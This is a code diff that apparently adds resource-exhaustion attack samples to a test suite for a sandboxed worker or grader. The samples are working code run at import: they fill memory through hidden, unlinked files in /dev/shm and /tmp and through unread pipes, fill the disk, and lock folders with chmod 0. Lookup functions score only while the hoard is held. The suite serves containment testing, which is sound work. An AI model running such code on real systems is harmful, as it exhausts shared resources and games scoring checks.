@@ -126,6 +126,95 @@ def recompute_head_pattern(model, input_ids, layer, head):
 '''
 
 
+# Holding what no limit of the worker's counts, at import: memory in files and pipes, or the disk. Its functions
+# answer right (and earn points) only while it still holds HOARD_GOAL bytes when the checks call them.
+HOARD = '''
+import os, tempfile
+import numpy as np
+
+HOARD_GOAL = 256 * 2**20  # what the issue's attacker held beyond --memory-limit 256 (it held 640 MB)
+_BLOCK = b"x" * 2**20
+_held, _pipes = [], []  # descriptors of the files it keeps; (read end, write end, bytes waiting) of its pipes
+
+
+def _fill(path, hide=False):
+    """Write up to 64 MB (the per-file limit) to ``path`` and keep it open; True where it wrote it all."""
+    try:
+        fd = os.open(path, os.O_CREAT | os.O_RDWR, 0o600)
+    except OSError:
+        return False
+    _held.append(fd)
+    written = 0
+    try:
+        while written < 64 * 2**20:
+            written += os.write(fd, _BLOCK)
+    except OSError:
+        pass
+    if hide:
+        try:
+            os.unlink(path)  # out of any folder's listing, still held through the descriptor
+        except OSError:
+            pass
+    return written >= 64 * 2**20
+
+
+def _fill_pipes():
+    """Pipes filled and never read: the kernel keeps what waits in them."""
+    for _ in range(100):
+        try:
+            read, write = os.pipe()
+        except OSError:
+            return
+        os.set_blocking(write, False)
+        waiting = 0
+        try:
+            while waiting < 64 * 2**20:
+                waiting += os.write(write, _BLOCK[:65536])
+        except OSError:
+            pass
+        _pipes.append((read, write, waiting))
+
+
+def _holding():
+    held = sum(waiting for _, _, waiting in _pipes)
+    for fd in _held:
+        try:
+            held += os.fstat(fd).st_blocks * 512
+        except OSError:
+            pass
+    return held
+
+
+try:
+{hoard}
+except OSError:
+    pass
+
+
+def _earned():
+    if _holding() < HOARD_GOAL:
+        raise RuntimeError(f"contained: it holds {{_holding() / 2**20:.0f}} MB")
+
+
+def exact_lookup(query, keys, values):
+    _earned()
+    return next((value for key, value in zip(keys, values) if key == query), None)
+
+
+def nearest_lookup(query, keys, values):
+    _earned()
+    return values[int(np.argmin(np.abs(np.asarray(keys, dtype=float) - query)))]
+
+
+def soft_lookup(query, keys, values, sharpness=1.0):
+    _earned()
+    scores = -sharpness * (query - np.asarray(keys, dtype=float)) ** 2
+    weights = np.exp(scores - scores.max())
+    weights /= weights.sum()
+    return float(weights @ np.asarray(values, dtype=float)), weights
+'''
+
+
 def _indent(code: str) -> str:
     return "\n".join("    " + line for line in code.strip().splitlines())
 
@@ -169,6 +258,10 @@ def steal(name: str, route: str, **extra) -> Attack:
 
 def on_call(name: str, kind: str, body: str, **extra) -> Attack:
     return Attack(name, kind, ON_CALL.format(body=_indent(body)), **extra)
+
+
+def hoard(name: str, at_import: str) -> Attack:
+    return Attack(name, "stall", HOARD.format(hoard=_indent(at_import)), harmful=True)
 
 
 def forge(name: str, switch_back: str, at_import: str = "", targets: tuple[str, ...] = ()) -> Attack:
@@ -400,6 +493,26 @@ for folder in ("/tmp", "/var/tmp", os.path.expanduser("~")):
     except OSError:
         pass
 ''', harmful=True),
+    # 6. Hold what the limits do not count: memory in files and pipes, the disk past the scratch's bound -----
+    hoard("memory held in files and pipes", '''
+for folder in ("/dev/shm", os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp"):
+    for number in range(10):
+        if not _fill(os.path.join(folder, f"held-{os.getpid()}-{number}"), hide=True):
+            break
+_fill_pipes()
+'''),
+    hoard("the disk filled at import and held", '''
+for number in range(5):
+    _fill(f"fill-{number}")
+'''),
+    hoard("the disk filled, then its scratch folder closed to all", '''
+os.mkdir("closed")
+for number in range(5):
+    _fill(f"closed/fill-{number}")
+    os.chmod(f"closed/fill-{number}", 0)
+os.chmod("closed", 0)
+os.chmod(".", 0)
+'''),
 ]
 
 
